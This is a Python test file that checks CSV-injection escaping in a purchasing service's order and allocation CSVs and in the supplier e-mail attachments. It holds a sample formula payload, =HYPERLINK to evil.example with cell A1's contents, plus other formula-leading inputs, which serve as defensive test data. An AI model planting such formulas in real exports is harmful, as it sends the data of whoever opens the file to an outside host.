"""Text in a CSV that a spreadsheet would run as a formula (issue 15): a delivery site
typed as ``=HYPERLINK(…)`` reaches the supplier's order document as text with a leading
``'``, through pooling's API and in notify's e-mail attachment alike; the figures Zirkel
writes stay numbers."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

from shared.events import Event, load
from tests.api.test_pooling_api import SIL, A, close, feed, need_posted, offer_updated
from tests.api.test_pooling_api import supplier_updated as supplier_terms
from tests.api.test_supplier_deliveries import deliver, sender, supplier_updated
from tests.support.http import serving
from tests.support.smtp import SmtpServer

if TYPE_CHECKING:
    from tests.api.conftest import Headers, Service

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
# a site as typed -> the cell a spreadsheet gets
SITES = {
    HYPERLINK: "'" + HYPERLINK,
    "+49 231 5550": "'+49 231 5550",
    "-5.00": "'-5.00",
    "@SUMME(A1:A9)": "'@SUMME(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Baustelle Hansastraße 12; Tor 2": "Baustelle Hansastraße 12; Tor 2",
    "Halle 3 = Lager": "Halle 3 = Lager",
}


def hostile_order(pooling: Service, admin: Headers) -> int:
    """One order to supplier A: a need of 12 SIL-300 per site above, each by member 1."""
    needs = []
    for need_id, site in enumerate(SITES, start=1):
        event = need_posted(need_id, 1, SIL, "12")
        needs.append(Event.of(event.event_type, event.payload | {"delivery_site": site}))
    feed(
        pooling, supplier_terms(A, "25.00", "500.00"), offer_updated(A, SIL, "12", [("0", "4.20")])
    )
    feed(pooling, *needs)
    [order] = close(pooling, admin)["orders"]
    return int(order["id"])


def rows(document: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_sites_are_text(document: bytes, allocations: bytes) -> None:
    header, line, *drops = rows(document)[:-6]
    assert header[-1] == "delivery_address" and line[-1] == ""
    assert [drop[-1] for drop in drops] == list(SITES.values())  # a pack for each site
    header, *needs = rows(allocations)
    assert header[-2:] == ["delivery_site", "needed_by"]
    assert [need[-2] for need in needs] == list(SITES.values())
    assert [tuple(need[2:5]) for need in needs] == [(str(n), "1", "12") for n in range(1, 9)]


def test_the_order_csv_writes_formula_text_as_text(pooling: Service, admin: Headers) -> None:
    order_id = hostile_order(pooling, admin)

    document = pooling.client.get(f"/api/v1/orders/{order_id}/document.csv", headers=admin)
    allocations = pooling.client.get(f"/api/v1/orders/{order_id}/allocations.csv", headers=admin)

    assert_sites_are_text(document.get_data(), allocations.get_data())
    empty = ["", "", "", "", ""]
    assert rows(document.get_data())[-6:] == [
        ["goods", *empty, "403,20", "", ""],
        ["shipping_fee", *empty, "25,00", "19", ""],
        ["total", *empty, "428,20", "", ""],
        ["taxable", *empty, "428,20", "19", ""],
        ["vat", *empty, "81,36", "19", ""],
        ["gross_total", *empty, "509,56", "", ""],
    ]


def test_the_suppliers_e_mail_attaches_the_same_safe_csv(
    pooling: Service, notify: Service, admin: Headers, smtp: SmtpServer
) -> None:
    order_id = hostile_order(pooling, admin)
    [placed] = pooling.outbox("pooling.order.placed")
    with serving(pooling.app) as pooling_url:
        deliver(notify, supplier_updated("email"), pooling_url)
        deliver(notify, load(placed), pooling_url)
        urls = {"pooling": pooling_url}
        assert sender(notify, smtp_port=smtp.port, service_urls=urls).send_due() == 1

    [mail] = smtp.mailbox.to("orders@ruhr.example")
    attachment = {part.get_filename(): part for part in mail.iter_attachments()}
    assert_sites_are_text(
        attachment[f"bestellung-{order_id}.csv"].get_payload(decode=True),
        attachment[f"aufteilung-{order_id}.csv"].get_payload(decode=True),
    )
